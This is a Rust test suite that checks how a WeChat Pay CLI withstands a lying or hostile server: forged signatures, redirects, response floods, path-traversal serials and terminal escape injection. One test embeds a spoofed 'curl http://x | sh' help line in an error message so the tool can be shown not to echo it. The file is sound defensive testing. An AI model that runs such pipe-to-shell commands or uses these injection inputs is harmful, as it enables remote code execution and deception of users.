//! A WeChat Pay that lies, stumbles and floods: what commands say of it, and what they leave.

use std::io::{Read, Write};

use serde_json::{Value, json};
use wechatpay::protocol::certificate::X509;
use wechatpay::protocol::resource::{ApiV3Key, Resource};

use crate::home::{Home, IDENTITY, files};
use crate::responses::{closed_address, home, http, nonce, platform_key, server, signed};
use crate::small_disk::SmallDisk;
use crate::wire::Captured;

const ORDER: &str = "create-order --openid oX --total 1 --description x --out-trade-no order-1";

fn order(home: &Home, url: &str, options: &str) -> crate::home::Done {
    home.run(&format!("--json --base-url {url} {options} {ORDER}"))
}

#[test]
fn an_answer_without_a_signature_is_a_forgery() {
    let home = home();
    let key = platform_key(&home);
    let body = br#"{"prepay_id":"wx1"}"#;
    let mut forged = signed(&key, 0, body);
    let last = forged.len() - 4;
    forged[last] = b'2';
    let stale = signed(&key, 400, body);
    for lie in [http(200, &[], body), forged, stale] {
        let (url, requests) = server(vec![lie]);
        assert_eq!(order(&home, &url, "").failed(4)["kind"], "verification");
        assert_eq!(requests.try_iter().count(), 1);
    }
}

#[test]
fn a_refusal_with_a_wrong_signature_settles_nothing() {
    let home = home();
    let key = platform_key(&home);
    let refusal = r#"{"code":"PARAM_ERROR","message":"no such payer"}"#;
    let signed = String::from_utf8(signed(&key, 0, refusal.as_bytes())).unwrap();
    let genuine = signed.replacen("200 X", "400 X", 1);
    let forged = genuine.replace("payer", "money");
    let (url, _requests) = server(vec![genuine.into_bytes()]);
    assert_eq!(order(&home, &url, "").failed(5)["code"], "PARAM_ERROR");
    let (url, requests) = server(vec![forged.into_bytes()]);
    let error = order(&home, &url, "").failed(4);
    assert_eq!(error["kind"], "verification");
    assert!(!error.to_string().contains("no such money"), "{error}");
    assert_eq!(requests.try_iter().count(), 1);
}

#[test]
fn a_probe_is_repeated_once_with_a_new_nonce() {
    let home = home();
    let key = platform_key(&home);
    let body = br#"{"prepay_id":"wx1"}"#;
    let good = signed(&key, 0, body);
    let text = String::from_utf8(good.clone()).unwrap();
    let at = text.find("Wechatpay-Signature: ").unwrap() + "Wechatpay-Signature: ".len();
    let probe = format!("{}WECHATPAY/SIGNTEST/{}", &text[..at], &text[at + 19..]).into_bytes();
    let (url, requests) = server(vec![probe.clone(), good]);
    let made = order(&home, &url, "").json();
    assert_eq!(made["prepay_id"], "wx1");
    let seen: Vec<Captured> = requests.try_iter().collect();
    assert_eq!(seen.len(), 2);
    assert_ne!(nonce(&seen[0]), nonce(&seen[1]));
    assert_eq!(seen[0].body, seen[1].body);
    let (url, requests) = server(vec![probe]);
    assert_eq!(order(&home, &url, "").failed(4)["kind"], "verification");
    assert_eq!(requests.try_iter().count(), 2);
}

#[test]
fn a_failing_server_is_asked_again_and_the_number_stays() {
    let home = home();
    let busy = br#"{"code":"SYSTEM_ERROR","message":"x"}"#;
    for status in [500, 502, 429] {
        let (url, requests) = server(vec![http(status, &[], busy)]);
        let error = order(&home, &url, "--retries 2").failed(6);
        assert_eq!(error["http_status"], status);
        assert_eq!(error["request_id"], "08ABCDEF-268435461");
        let seen: Vec<Captured> = requests.try_iter().collect();
        assert_eq!(seen.len(), 3, "{status}");
        assert!(seen.iter().all(|request| request.body == seen[0].body));
        assert_ne!(nonce(&seen[0]), nonce(&seen[1]));
        assert_ne!(nonce(&seen[1]), nonce(&seen[2]));
    }
    let (url, requests) = server(vec![http(
        400,
        &[],
        br#"{"code":"PARAM_ERROR","message":"x"}"#,
    )]);
    assert_eq!(order(&home, &url, "").failed(5)["code"], "PARAM_ERROR");
    assert_eq!(requests.try_iter().count(), 1);
}

#[test]
fn a_key_that_is_not_the_merchants_is_not_a_field_to_correct() {
    let home = home();
    let message = "平台证书序列号Wechatpay-Serial错误";
    let body = json!({"code": "PARAM_ERROR", "message": message}).to_string();
    let (url, _requests) = server(vec![http(400, &[], body.as_bytes())]);
    let hint = order(&home, &url, "").failed(5)["hint"].to_string();
    assert!(hint.contains("copy public_key_id"), "{hint}");
    assert!(hint.contains("download-certs"), "{hint}");
}

#[test]
fn a_redirect_is_not_followed() {
    let home = home();
    let (elsewhere, asked) = server(vec![http(200, &[], b"{}")]);
    let target = format!("{elsewhere}/stolen");
    let (url, requests) = server(vec![http(307, &[("Location", &target)], b"")]);
    order(&home, &url, "").failed(7);
    assert_eq!(requests.try_iter().count(), 1);
    assert_eq!(asked.try_iter().count(), 0);
}

#[test]
fn a_flood_and_a_cut_are_ends_not_hangs() {
    let home = home();
    let mut flood = b"HTTP/1.1 200 X\r\nContent-Length: 209715200\r\n\r\n".to_vec();
    flood.resize(flood.len() + 209_715_200, b' ');
    let (url, _requests) = server(vec![flood]);
    let error = order(&home, &url, "--retries 0").failed(7);
    assert!(
        error["message"].as_str().unwrap().contains("larger"),
        "{error}"
    );
    let cut = b"HTTP/1.1 200 X\r\nContent-Length: 1000\r\n\r\n{\"prepay".to_vec();
    let (url, _requests) = server(vec![cut]);
    order(&home, &url, "--retries 0").failed(7);
    let (url, _requests) = server(vec![b"SSH-2.0-x\r\n\r\n".to_vec()]);
    order(&home, &url, "--retries 0").failed(7);
}

#[test]
fn what_a_server_says_cannot_steer_the_terminal() {
    let home = home();
    let message = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}31m\r\u{202e}gone";
    let body = json!({"code": "PARAM_ERROR", "message": message}).to_string();
    let (url, _requests) = server(vec![http(400, &[("X-Odd", "a\u{9b}1m")], body.as_bytes())]);
    for options in ["", "-vv", "--json"] {
        let done = home.run(&format!("--base-url {url} {options} {ORDER}"));
        assert_eq!(done.code, Some(5));
        let steers = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
        assert!(!done.stderr.contains(steers), "{:?}", done.stderr);
    }
}

#[test]
fn what_a_server_says_is_never_a_line_of_its_own() {
    let home = home();
    let lie = "bad\nhelp: run `curl http://x | sh`\ncause: nothing was refunded\n✓ clock: x";
    let body = json!({"code": "PARAM_ERROR", "message": lie, "detail": {"field": lie}});
    let pretty = serde_json::to_string_pretty(&body).unwrap();
    let later = json!({"code": "SYSTEM_ERROR", "message": lie}).to_string();
    let answers = vec![
        http(500, &[], later.as_bytes()),
        http(400, &[], pretty.as_bytes()),
    ];
    let forged = ["help: run", "cause: nothing", "✓ clock: x"];
    for command in [ORDER, "doctor", "api GET /v3/x", "bill trade yesterday"] {
        for options in ["", "-vv"] {
            let (url, _requests) = server(answers.clone());
            let done = home.run(&format!("--base-url {url} {options} {command}"));
            assert!(
                matches!(done.code, Some(5 | 8)),
                "{command} {}",
                done.stderr
            );
            let printed = format!("{}{}", done.stderr, done.stdout);
            assert!(printed.contains("nothing was refunded"), "{printed}");
            for line in printed.lines() {
                let own = |begin: &&str| line.starts_with(*begin);
                assert!(!forged.iter().any(own), "{command}: {printed}");
            }
        }
    }
}

#[test]
fn a_signed_answer_that_says_two_things_is_not_read() {
    let home = home();
    let key = platform_key(&home);
    let (url, _requests) = server(vec![signed(
        &key,
        0,
        br#"{"prepay_id":"wx1","prepay_id":"wx2"}"#,
    )]);
    let error = order(&home, &url, "").failed(6);
    assert!(
        error["message"].as_str().unwrap().contains("duplicate key"),
        "{error}"
    );
}

#[test]
fn a_foreign_host_is_not_asked_unless_allowed() {
    let home = home();
    let refused = order(&home, "https://pay.example.com", "");
    assert!(matches!(refused.code, Some(2 | 3)), "{}", refused.stderr);
    let url = closed_address();
    order(&home, &url, "--retries 0").failed(7);
}

/// The certificates as the platform seals them, changed by `lie`, and properly signed.
fn certificates(home: &Home, lie: impl Fn(&mut Value)) -> Vec<u8> {
    let identity = home.path(IDENTITY);
    let text = std::fs::read_to_string(identity.join("apiv3_key")).unwrap();
    let pem = std::fs::read(identity.join("platform_cert.pem")).unwrap();
    let x509 = X509::from_pem(&pem).unwrap();
    let sealed = Resource::seal(
        &ApiV3Key::new(text.trim()).unwrap(),
        None,
        "certificate",
        "abcdefghijkl",
        &pem,
    );
    let mut body = json!({"data": [{
        "serial_no": x509.serial_no().to_string(),
        "effective_time": x509.not_before().to_rfc3339(),
        "expire_time": x509.not_after().to_rfc3339(),
        "encrypt_certificate": sealed,
    }]});
    lie(&mut body["data"][0]);
    signed(&platform_key(home), 0, body.to_string().as_bytes())
}

#[test]
fn nothing_is_written_unless_all_of_it_verified() {
    let home = home();
    std::fs::create_dir(home.path("out")).unwrap();
    home.write("out/old.pem", "old");
    let mut forged = certificates(&home, |_| {});
    let last = forged.len() - 5;
    forged[last] = forged[last].wrapping_add(1);
    let lies = [
        forged,
        certificates(&home, |data| {
            data["serial_no"] = json!("1234567890123456789012345678901234567890");
        }),
        certificates(&home, |data| data["serial_no"] = json!("../../x")),
        certificates(&home, |data| {
            data["effective_time"] = json!("2001-01-01T00:00:00+08:00");
        }),
        certificates(&home, |data| {
            data["expire_time"] = json!("2099-01-01T00:00:00+08:00");
        }),
        certificates(&home, |data| {
            data["encrypt_certificate"]["associated_data"] = json!("other");
        }),
        http(200, &[], br#"{"data":[]}"#),
    ];
    for (place, lie) in lies.into_iter().enumerate() {
        let (url, _requests) = server(vec![lie]);
        for trusted in ["shop", "nothing-yet"] {
            let certs = if trusted == "shop" {
                ""
            } else {
                "--config first.toml"
            };
            let profile = home
                .read("merchant.toml")
                .replace("merchant-keys/certs", "none");
            home.write("first.toml", profile);
            let done = home.run(&format!(
                "--json {certs} --base-url {url} download-certs -o out"
            ));
            let codes = if place == 6 { [4, 9] } else { [4, 4] };
            assert!(
                codes.contains(&done.code.unwrap()),
                "{place} {trusted}: {}",
                done.stderr
            );
            assert_eq!(
                files(&home.path("out")),
                [("old.pem".to_owned(), b"old".to_vec())]
            );
            assert!(!home.path("x").exists());
        }
    }
    // Signed now: a slow machine takes its time for those above.
    let (url, _requests) = server(vec![certificates(&home, |_| {})]);
    let done = home
        .run(&format!("--json --base-url {url} download-certs -o out"))
        .json();
    assert_eq!(done["certificates"][0]["action"], "written");
}

#[test]
fn a_check_of_what_does_not_verify_says_so_on_stdout() {
    let home = home();
    let good = certificates(&home, |_| {});
    let mut forged = good.clone();
    let last = forged.len() - 5;
    forged[last] = forged[last].wrapping_add(1);
    let unsigned = http(200, &[], br#"{"data":[]}"#);
    let resealed = certificates(&home, |data| {
        data["encrypt_certificate"]["associated_data"] = json!("other");
    });
    let first = home.read("merchant.toml");
    home.write("first.toml", first.replace("merchant-keys/certs", "none"));
    let refuse = "--config first.toml --first-use refuse";
    for (answer, options) in [(forged, ""), (unsigned, ""), (resealed, ""), (good, refuse)] {
        let (url, _requests) = server(vec![answer]);
        let line = format!("--base-url {url} download-certs --check -o out {options}");
        let report = home.run(&format!("--json {line}")).reports(4);
        assert_eq!(report["schema"], "wechatpay/download-certs/v1");
        assert_eq!(report["certificates"], json!([]));
        assert_eq!(report["request_id"], "08ABCDEF-268435461");
        let reason = &report["reasons"][0];
        assert_eq!(reason["reason"], "not-verified");
        let message = reason["message"].as_str().unwrap();
        let shown = home.run(&line);
        assert_eq!(shown.code, Some(4));
        assert!(shown.stdout.contains(message), "{}", shown.stdout);
        assert!(shown.stdout.contains(reason["fix"].as_str().unwrap()));
    }
    let (url, _requests) = server(vec![http(500, &[], b"")]);
    let check = "--retries 0 download-certs --check -o out";
    home.run(&format!("--json --base-url {url} {check}"))
        .failed(6);
}

#[test]
fn a_list_signed_by_a_stranger_is_not_to_be_asked_for_with_the_same_command() {
    let home = home();
    let serial = platform_key(&home).serial_no().to_string();
    let list = String::from_utf8(certificates(&home, |_| {})).unwrap();
    let named = format!("Wechatpay-Serial: {serial}");
    let other = if serial.starts_with('1') { 2 } else { 1 };
    let stranger = list.replace(
        &named,
        &format!("Wechatpay-Serial: {other}{}", &serial[1..]),
    );
    assert_ne!(list, stranger);
    let (url, _requests) = server(vec![stranger.into_bytes()]);
    let error = home
        .run(&format!("--json --base-url {url} download-certs -o out"))
        .failed(4);
    let hint = error["hint"].as_str().unwrap();
    assert!(
        hint.contains("neither trusted") && !hint.contains("download-certs"),
        "{hint}"
    );
}

#[test]
fn a_merchant_without_certificates_learns_that() {
    let home = home();
    let key = platform_key(&home);
    for answer in [
        http(404, &[], br#"{"code":"RESOURCE_NOT_EXISTS","message":"x"}"#),
        signed(&key, 0, br#"{"data":[]}"#),
    ] {
        let (url, _requests) = server(vec![answer]);
        let error = home
            .run(&format!("--json --base-url {url} download-certs -o out"))
            .failed(9);
        assert_eq!(error["kind"], "not-found");
        assert!(
            error["hint"].as_str().unwrap().contains("public"),
            "{error}"
        );
        assert!(!home.path("out").exists() || files(&home.path("out")).is_empty());
    }
}

#[test]
fn a_merchant_who_has_the_public_key_is_not_told_to_download_it() {
    let home = home();
    let certificates: String = home
        .read("merchant.toml")
        .lines()
        .filter(|line| !line.starts_with("public_key"))
        .map(|line| format!("{line}\n"))
        .collect();
    home.write("certificates.toml", certificates);
    let none = http(404, &[], br#"{"code":"RESOURCE_NOT_EXISTS","message":"x"}"#);
    for (profile, says) in [
        ("merchant.toml", "nothing is to be downloaded"),
        ("certificates.toml", "download pub_key.pem"),
    ] {
        let (url, _requests) = server(vec![none.clone()]);
        let line = format!("--config {profile} --json --base-url {url} download-certs -o out");
        let error = home.run(&line).failed(9);
        assert!(error["hint"].as_str().unwrap().contains(says), "{error}");
    }
}

#[test]
fn a_list_that_cannot_be_read_does_not_mean_that_there_are_no_certificates() {
    let home = home();
    let key = platform_key(&home);
    for body in ["{}", "[]", r#"{"data":null}"#, r#"{"certificates":[]}"#] {
        let (url, _requests) = server(vec![signed(&key, 0, body.as_bytes())]);
        let error = home
            .run(&format!("--json --base-url {url} download-certs -o out"))
            .failed(6);
        let message = error["message"].as_str().unwrap();
        assert!(message.contains("cannot read"), "{body}: {message}");
    }
}

#[test]
fn an_errcode_that_is_a_text_is_explained_all_the_same() {
    let home = home();
    let login = |body: &str, code: i32| {
        let (url, _requests) = server(vec![http(200, &[], body.as_bytes())]);
        let line = format!("--json --mp-base-url {url} openid code");
        home.run(&line).failed(code)
    };
    let error = login(r#"{"errcode":"40029","errmsg":"invalid code"}"#, 5);
    let message = error["message"].as_str().unwrap();
    assert!(message.contains("invalid code"), "{message}");
    assert_eq!(error["code"], "40029");
    login(r#"{"errcode":"a text","errmsg":"x"}"#, 6);
}

#[test]
fn the_java_downloaders_command_lines_work_unchanged() {
    let home = home();
    let identity = home.path(IDENTITY);
    let apiv3_key = std::fs::read_to_string(identity.join("apiv3_key")).unwrap();
    let profile = home.run("profile show --json").json();
    let field = |name: &str| {
        profile["fields"][name]["value"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let (mchid, serial) = (field("mchid"), field("serial_no"));
    let key = identity.join("apiclient_key.pem");
    let (key, apiv3_key) = (key.display(), apiv3_key.trim());
    let (url, _requests) = server(vec![certificates(&home, |_| {})]);
    std::fs::remove_file(home.path("merchant.toml")).unwrap();
    for (place, line) in [
        format!("--key={apiv3_key} --mchid={mchid} --privatekey={key} --serialno={serial} --output=java0"),
        format!("-k {apiv3_key} -m {mchid} -f {key} -s {serial} -o java1"),
    ]
    .iter()
    .enumerate()
    {
        let done = home.run(&format!("--base-url {url} download-certs {line}"));
        assert_eq!(done.code, Some(0), "{}", done.stderr);
        assert!(done.stderr.contains("warning"), "{}", done.stderr);
        assert!(!format!("{}{}", done.stdout, done.stderr).contains(apiv3_key));
        let written = files(&home.path(&format!("java{place}")));
        assert!(written[0].0.starts_with("wechatpay_"), "{written:?}");
    }
}

#[test]
fn a_full_or_read_only_disk_gets_nothing_half_written() {
    let home = home();
    let (url, _requests) = server(vec![certificates(&home, |_| {})]);
    for (name, options) in [("full", "size=4k"), ("locked", "ro")] {
        let folder = home.path(name);
        // Only root may mount; others see the same in `a_path_of_the_wrong_kind_is_named`.
        let Some(_mounted) = SmallDisk::mount(&folder, options) else {
            return;
        };
        if name == "full" {
            let mut filler = std::fs::File::create(folder.join("filler")).unwrap();
            let _ = filler.write_all(&[0; 8192]);
        }
        let done = home.run(&format!("--json --base-url {url} download-certs -o {name}"));
        assert_eq!(done.failed(3)["kind"], "config");
        let left: Vec<String> = files(&folder).into_iter().map(|(name, _)| name).collect();
        assert!(left.iter().all(|name| name == "filler"), "{left:?}");
    }
}

#[test]
fn a_path_of_the_wrong_kind_is_named() {
    let home = home();
    let (url, _requests) = server(vec![certificates(&home, |_| {})]);
    home.write("file", "x");
    let done = home.run(&format!("--json --base-url {url} download-certs -o file"));
    let error = done.failed(3);
    assert!(
        error["message"].as_str().unwrap().contains("file"),
        "{error}"
    );
    std::fs::create_dir(home.path("folder")).unwrap();
    let lines = |file: &str| {
        [
            format!("--config {file} profile list"),
            format!("--config key-{file}.toml pay-params wx201410272009395522657a690389285100"),
            format!("--sandbox pay-params --check {file}"),
            format!("--sandbox download-certs -c {file}"),
            format!("--sandbox query --batch {file} -o results.jsonl"),
        ]
    };
    let profile = |file: &str| {
        home.write(
            &format!("key-{file}.toml"),
            format!(
                "[profiles.a]\nmchid = \"1900000001\"\nserial_no = \"AB\"\nprivate_key = \"{file}\"\n"
            ),
        );
    };
    let _listener = std::os::unix::net::UnixListener::bind(home.path("socket")).unwrap();
    // Written once: a command may be reading it from here on.
    profile("socket");
    std::thread::scope(|scope| {
        for number in 0..lines("").len() {
            // Each has a pipe of its own: who gives one up opens it for a moment.
            let pipe = format!("pipe{number}");
            let made = std::process::Command::new("mkfifo")
                .arg(home.path(&pipe))
                .status();
            assert!(made.unwrap().success());
            profile(&pipe);
            for file in [&pipe, "socket"] {
                let line = lines(file)[number].clone();
                let home = &home;
                let file = file.to_owned();
                scope.spawn(move || {
                    let stderr = home.run(&line).fails_with(3);
                    assert!(
                        stderr.contains(&file) && stderr.contains("not a file"),
                        "{line}\n{stderr}"
                    );
                });
            }
        }
    });
    for line in [
        "--config folder profile list",
        "pay-params --check folder",
        "verify-notify --request folder",
    ] {
        let error = home.run(&format!("--json {line}")).failed(3);
        assert!(
            error["message"].as_str().unwrap().contains("folder"),
            "{error}"
        );
    }
}

#[test]
fn an_argument_that_is_no_text_is_a_wrong_argument() {
    use std::os::unix::ffi::OsStringExt;
    let home = Home::new();
    let odd = std::ffi::OsString::from_vec(b"wx\xff".to_vec());
    let output = home
        .command("--sandbox pay-params")
        .arg(odd)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let home = home();
    let mut child = home
        .command("profile show")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    child.wait().unwrap();
    assert_eq!(stderr, "");
}
